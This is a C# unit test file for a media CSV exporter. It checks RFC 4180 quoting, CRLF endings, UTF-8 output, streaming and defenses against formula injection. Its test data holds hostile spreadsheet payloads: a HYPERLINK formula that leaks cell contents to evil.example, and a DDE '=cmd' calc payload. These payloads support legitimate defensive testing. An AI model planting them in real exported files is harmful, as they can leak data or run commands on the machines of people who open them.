using System.Globalization;
using System.Runtime.CompilerServices;
using System.Text;

namespace MediaKit.Core.Tests.Export;

public sealed class MediaCsvTests
{
    private static readonly DateTimeOffset s_created = new(2025, 1, 8, 10, 30, 15, 123, TimeSpan.FromHours(2));

    [Theory]
    [InlineData("photo.jpg", "photo.jpg")]
    [InlineData("", "")]
    [InlineData("a,b.png", "\"a,b.png\"")]
    [InlineData("say \"cheese\".png", "\"say \"\"cheese\"\".png\"")]
    [InlineData("\"", "\"\"\"\"")]
    [InlineData("line\nbreak.png", "\"line\nbreak.png\"")]
    [InlineData("line\r\nbreak.png", "\"line\r\nbreak.png\"")]
    [InlineData("carriage\rreturn.png", "\"carriage\rreturn.png\"")]
    [InlineData("semi;colon 'quote'.png", "semi;colon 'quote'.png")]
    [InlineData("über café.png", "über café.png")]
    public void A_field_is_quoted_only_when_RFC_4180_requires_it_and_quotes_are_doubled(string value, string expected)
        => Assert.Equal(expected, MediaCsv.FormatField(value));

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\"")]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A2)", "'@SUM(A1:A2)")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("\rcmd", "\"'\rcmd\"")]
    [InlineData("\uFF1D1+1", "'\uFF1D1+1")]
    [InlineData("a=1", "a=1")]
    [InlineData(" =1", " =1")]
    public void A_field_that_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe(string value, string expected)
        => Assert.Equal(expected, MediaCsv.FormatField(value));

    [Fact]
    public async Task The_header_and_every_line_end_with_CRLF_and_values_use_ISO_UTC_and_invariant_numbers()
    {
        var previous = CultureInfo.CurrentCulture;
        CultureInfo.CurrentCulture = new CultureInfo("de-DE");
        try
        {
            var asset = Asset("photo.jpg", length: 1_234_567, width: 1920, height: 1080);
            var noSize = Asset("doc.pdf", length: 10, width: null, height: null);
            var csv = await WriteAsync([asset, noSize]);

            Assert.Equal(
                "id,file_name,url,size,width,height,created_at\r\n"
                + $"{asset.Id:D},photo.jpg,https://cdn.test/{asset.Id:N},1234567,1920,1080,2025-01-08T08:30:15.123Z\r\n"
                + $"{noSize.Id:D},doc.pdf,https://cdn.test/{noSize.Id:N},10,,,2025-01-08T08:30:15.123Z\r\n",
                csv);
            Assert.DoesNotContain("\n", csv.Replace("\r\n", "", StringComparison.Ordinal), StringComparison.Ordinal);
        }
        finally
        {
            CultureInfo.CurrentCulture = previous;
        }
    }

    [Fact]
    public async Task An_empty_selection_writes_only_the_header()
        => Assert.Equal(MediaCsv.Header + "\r\n", await WriteAsync([]));

    [Fact]
    public async Task Hostile_names_and_urls_round_trip_through_an_RFC_4180_parser_with_only_the_apostrophe_added()
    {
        string[] names =
        [
            "=HYPERLINK(\"http://evil.example\",\"x\")",
            "+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\tindented",
            "\rreturn",
            "Smith, \"Bob\"\r\nand\nfriends.png",
            "plain.png",
            "\"quoted\".png",
            ",",
            "",
        ];
        var assets = names.Select(n => Asset(n, 1, 2, 3)).ToList();
        string UrlOf(MediaAsset a) => a.FileName == "plain.png" ? "=cmd|' /C calc'!A0" : $"https://cdn.test/{a.Id:N}?a=1,b=\"2\"";

        var csv = await WriteAsync(assets, UrlOf);
        var rows = Rfc4180.Parse(csv);

        Assert.Equal(assets.Count + 1, rows.Count);
        Assert.Equal(["id", "file_name", "url", "size", "width", "height", "created_at"], rows[0]);
        for (var i = 0; i < assets.Count; i++)
        {
            var row = rows[i + 1];
            Assert.Equal(7, row.Count);
            Assert.Equal(assets[i].Id, Guid.Parse(row[0]));
            Assert.Equal(Neutralized(names[i]), row[1]);
            Assert.Equal(Neutralized(UrlOf(assets[i])), row[2]);
            Assert.Equal(["1", "2", "3"], row.Skip(3).Take(3));
            Assert.Equal(s_created, DateTimeOffset.Parse(row[6], CultureInfo.InvariantCulture));
        }
    }

    [Fact]
    public async Task The_stream_overload_writes_UTF8_with_a_byte_order_mark_and_leaves_the_stream_open()
    {
        using var stream = new MemoryStream();
        var asset = Asset("café.png", 1, 1, 1);

        await MediaCsv.WriteAsync(stream, AsAsync([asset]), a => "u");

        Assert.True(stream.CanWrite);
        var bytes = stream.ToArray();
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        Assert.Contains(",café.png,u,", Encoding.UTF8.GetString(bytes[3..]), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Rows_are_written_as_they_arrive_not_after_the_whole_selection_is_read()
    {
        var writer = new RecordingWriter();
        var gate = new TaskCompletionSource();
        var first = Asset("first.png", 1, 1, 1);

        var writing = MediaCsv.WriteAsync(writer, Slow(first, gate.Task), a => "u");
        await writer.LineWritten.Task.WaitAsync(TimeSpan.FromSeconds(10));

        Assert.Contains("first.png", writer.ToString(), StringComparison.Ordinal);
        Assert.False(writing.IsCompleted);
        gate.SetResult();
        await writing;
        Assert.Contains("second.png", writer.ToString(), StringComparison.Ordinal);

        static async IAsyncEnumerable<MediaAsset> Slow(MediaAsset first, Task gate, [EnumeratorCancellation] CancellationToken cancellationToken = default)
        {
            yield return first;
            await gate.WaitAsync(cancellationToken);
            yield return Asset("second.png", 1, 1, 1);
        }
    }

    [Fact]
    public async Task Cancellation_stops_between_rows()
    {
        using var cancellation = new CancellationTokenSource();
        var writer = new StringWriter();
        var assets = Enumerable.Range(0, 5).Select(i =>
        {
            if (i == 2)
            {
                cancellation.Cancel();
            }

            return Asset($"{i}.png", 1, 1, 1);
        });

        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => MediaCsv.WriteAsync(writer, assets, a => "u", cancellation.Token));
        Assert.DoesNotContain("3.png", writer.ToString(), StringComparison.Ordinal);
    }

    private static string Neutralized(string value)
        => value.Length > 0 && value[0] is '=' or '+' or '-' or '@' or '\t' or '\r' ? "'" + value : value;

    private static MediaAsset Asset(string fileName, long length, int? width, int? height) => new()
    {
        Id = Guid.CreateVersion7(),
        FileName = fileName,
        Length = length,
        Width = width,
        Height = height,
        CreatedAt = s_created,
    };

    private static async Task<string> WriteAsync(IEnumerable<MediaAsset> assets, Func<MediaAsset, string>? url = null)
    {
        var writer = new StringWriter(CultureInfo.InvariantCulture);
        await MediaCsv.WriteAsync(writer, assets, url ?? (a => $"https://cdn.test/{a.Id:N}"));
        return writer.ToString();
    }

    private static async IAsyncEnumerable<MediaAsset> AsAsync(IEnumerable<MediaAsset> assets)
    {
        foreach (var asset in assets)
        {
            await Task.Yield();
            yield return asset;
        }
    }

    private sealed class RecordingWriter : StringWriter
    {
        public TaskCompletionSource LineWritten { get; } = new(TaskCreationOptions.RunContinuationsAsynchronously);

        public override Task WriteAsync(ReadOnlyMemory<char> buffer, CancellationToken cancellationToken = default)
        {
            var result = base.WriteAsync(buffer, cancellationToken);
            if (ToString().Split("\r\n").Length > 2)
            {
                LineWritten.TrySetResult();
            }

            return result;
        }
    }

    /// <summary>A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes; anything else is an error.</summary>
    private static class Rfc4180
    {
        public static List<List<string>> Parse(string text)
        {
            var rows = new List<List<string>>();
            var row = new List<string>();
            var field = new StringBuilder();
            var i = 0;
            while (i < text.Length)
            {
                if (text[i] == '"')
                {
                    i++;
                    while (true)
                    {
                        Assert.True(i < text.Length, "Unterminated quoted field.");
                        if (text[i] == '"')
                        {
                            if (i + 1 < text.Length && text[i + 1] == '"')
                            {
                                field.Append('"');
                                i += 2;
                                continue;
                            }

                            i++;
                            break;
                        }

                        field.Append(text[i++]);
                    }
                }
                else
                {
                    while (i < text.Length && text[i] is not ',' and not '\r' and not '\n')
                    {
                        Assert.NotEqual('"', text[i]);
                        field.Append(text[i++]);
                    }
                }

                row.Add(field.ToString());
                field.Clear();
                Assert.True(i < text.Length, "The last record must end with CRLF.");
                if (text[i] == ',')
                {
                    i++;
                    continue;
                }

                Assert.True(text[i] == '\r' && i + 1 < text.Length && text[i + 1] == '\n', $"A bare line break at {i}.");
                i += 2;
                rows.Add(row);
                row = [];
            }

            return rows;
        }
    }
}
